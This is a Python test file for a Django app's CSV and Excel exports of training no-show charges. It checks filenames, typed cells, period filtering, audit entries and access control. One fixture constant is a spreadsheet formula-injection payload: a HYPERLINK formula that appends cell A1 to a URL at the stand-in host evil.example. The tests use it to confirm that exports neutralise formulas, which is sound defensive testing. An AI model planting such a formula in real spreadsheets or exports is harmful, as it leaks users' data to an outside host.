"""Charges exports (Excel and CSV) for invoicing: the same rows as the report, safe to open in a spreadsheet."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from hub.core.models import AuditEntry
from hub.testing import make_user
from hub.training.charges import EXPORT_HEADERS
from hub.training.models import Booking, Charge
from hub.training.tests.factories import local_datetime, make_booking, make_course, make_event

pytestmark = pytest.mark.django_db

DANGEROUS = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.fixture
def charges(personas, frozen_now):
    made = []
    for day, last_name, agency, amount in (
        (date(2024, 5, 14), DANGEROUS, personas.agency_a, "90.00"),
        (date(2024, 11, 5), "Quinn", personas.agency_b, "50.00"),
    ):
        event = make_event(make_course("Signs of Safety"), starts_at=local_datetime(day))
        person = make_user(first_name="Pat", last_name=last_name, agency=agency)
        booking = make_booking(event, person, status=Booking.Status.NO_SHOW)
        made.append(
            Charge.objects.create(booking=booking, reason=Charge.Reason.NO_SHOW, amount=Decimal(amount), agency=agency)
        )
    return made


def test_the_csv_lists_the_charges_with_formulas_neutralised(client_for, personas, charges):
    response = client_for(personas.business_unit).get(reverse("training:charges-export-csv"), {"year": "2024-25"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="training-charges-2024-25.csv"' in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == EXPORT_HEADERS
    by_agency = {row[0]: row for row in rows[1:]}
    # The name does not start with the formula, so it is already safe text.
    assert by_agency["Agency A"][1] == f"Pat {DANGEROUS}"
    assert by_agency["Agency B"][3:7] == ["Signs of Safety", "2024-11-05", "Non-attendance", "50.00"]


def test_a_delegate_whose_name_is_a_formula_is_written_as_text(client_for, personas, frozen_now):
    event = make_event(make_course("Neglect"), starts_at=local_datetime(date(2024, 6, 3)))
    person = make_user(first_name=DANGEROUS, last_name="", agency=personas.agency_a)
    booking = make_booking(event, person, status=Booking.Status.NO_SHOW)
    Charge.objects.create(booking=booking, reason=Charge.Reason.NO_SHOW, amount=Decimal("50"), agency=personas.agency_a)
    client = client_for(personas.business_unit)

    csv_response = client.get(reverse("training:charges-export-csv"), {"year": "2024-25"})
    [_, row] = list(csv.reader(io.StringIO(csv_response.content.decode("utf-8-sig"))))
    assert row[1] == "'" + DANGEROUS

    xlsx_response = client.get(reverse("training:charges-export-xlsx"), {"year": "2024-25"})
    sheet = load_workbook(io.BytesIO(xlsx_response.content)).active
    cell = sheet.cell(row=2, column=2)
    assert cell.value == "'" + DANGEROUS
    assert cell.data_type == "s"


def test_the_excel_file_has_real_dates_and_numbers(client_for, personas, charges):
    response = client_for(personas.business_unit).get(
        reverse("training:charges-export-xlsx"), {"year": "2024-25", "agency": personas.agency_b.short_code}
    )
    assert 'filename="training-charges-2024-25-agb.xlsx"' in response["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.title == "Charges 2024-25"
    assert [cell.value for cell in sheet[1]] == EXPORT_HEADERS
    assert sheet.max_row == 2
    row = [cell.value for cell in sheet[2]]
    assert row[0] == "Agency B"
    assert row[4].date() == date(2024, 11, 5)
    assert row[6] == 50
    assert row[7] is False


def test_the_export_follows_the_period_filter_and_is_audited(client_for, personas, charges):
    response = client_for(personas.business_unit).get(
        reverse("training:charges-export-csv"), {"year": "2024-25", "period": "q1"}
    )
    assert 'filename="training-charges-2024-25-q1.csv"' in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len(rows) == 2
    entry = AuditEntry.objects.get(action="training.charges.exported")
    assert entry.actor == personas.business_unit
    assert entry.data == {"format": "csv", "rows": 1, "year": "2024-25", "period": "Q1 2024/25"}


def test_only_the_business_unit_can_export(client_for, personas, charges):
    for name in ("training:charges-export-csv", "training:charges-export-xlsx"):
        assert client_for(personas.spoc_b).get(reverse(name), {"year": "2024-25"}).status_code == 404
